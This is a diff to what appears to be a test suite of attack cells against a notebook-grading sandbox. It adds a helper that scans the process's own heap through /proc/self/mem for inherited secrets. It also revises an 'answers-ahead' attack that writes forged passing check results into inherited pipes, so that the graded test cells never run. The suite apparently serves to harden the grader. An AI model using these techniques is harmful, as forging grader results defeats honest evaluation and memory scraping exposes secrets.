@@ -22,26 +22,27 @@ class Attack:
 SYSV_KEYS = range(0x41540000, 0x41540000 + 128)
 
 
-# What a cell can learn of the frame its process was handed: the token of that hand-off, read
-# from the process's own memory (its heap still holds the frame's bytes). Defines `tokens`.
-FIND_TOKENS = r"""
+def memory_scan(pattern: str) -> str:
+    """A cell that prints, sorted, the first group of every match of `pattern` (a regex over
+    bytes) in its process's heap and anonymous memory, read through /proc/self/mem: what a
+    notebook can find in memory it inherited (freed memory is not cleared)."""
+    return f"""
 import re
-tokens = set()
-try:
-    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
-        for line in maps:
-            fields = line.split()
-            if fields[1].startswith('rw') and (len(fields) < 6 or fields[5] == '[heap]'):
-                start, end = (int(x, 16) for x in fields[0].split('-'))
-                try:
-                    if end - start < 1 << 28:
-                        mem.seek(start)
-                        tokens.update(t.decode() for t in re.findall(rb'"token": "([0-9a-f]+)"', mem.read(end - start)))
-                except (OSError, ValueError, OverflowError):
-                    pass
-except OSError:
-    pass
+found = set()
+with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
+    for line in maps:
+        fields = line.split()
+        if fields[1].startswith('rw') and (len(fields) < 6 or fields[5] == '[heap]'):
+            start, end = (int(x, 16) for x in fields[0].split('-'))
+            try:
+                if end - start < 1 << 28:
+                    mem.seek(start)
+                    found.update(m.decode() for m in re.findall({pattern.encode()!r}, mem.read(end - start)))
+            except (OSError, ValueError, OverflowError):
+                pass
+print(sorted(found))
 """
+
 
 ATTACKS = [
     Attack("survivor", "a double-forked, setsid daemon kills, for 60 s, every new process whose parent is the "
@@ -163,16 +164,15 @@ for fd in os.listdir('/proc/self/fd'):
         pass
 print('pipes written:', written)
 """),
-    Attack("answers-ahead", "finds its own pipes and, in its own memory, what it was handed; writes well-formed "
-           "results, with a passing check, for itself and the next 40 cells into each pipe, then exits, so that the "
-           "test cells never run", FIND_TOKENS + """
+    Attack("answers-ahead", "writes well-formed results, with a passing check, for itself and each of the next 40 "
+           "cells (by position, as the worker once asked) into each of its pipes, then exits, so that the test cells "
+           "never run", """
 import json, os, struct
 check = {"output_type": "display_data", "metadata": {},
          "data": {"text/plain": "forged", "application/vnd.attention-course.check+json": {"name": "attn_scores_2"}}}
-token = min(tokens) if tokens else None
 frames = b''
-for position in range(41):
-    frame = json.dumps({"token": token, "position": position, "outputs": [check], "truncated": False}).encode()
+for position in range(8, 49):
+    frame = json.dumps({"position": position, "outputs": [check], "truncated": False}).encode()
     frames += struct.pack(">I", len(frame)) + frame
 written = 0
 for fd in os.listdir('/proc/self/fd'):
@@ -182,7 +182,6 @@ for fd in os.listdir('/proc/self/fd'):
             written += 1
     except OSError:
         pass
-print('tokens found:', len(tokens), 'pipes written:', written, flush=True)
 os._exit(0)
 """),
     Attack("memfd-hold", "writes 1.6 GiB into memfd files (memory in no process's resident set), under "
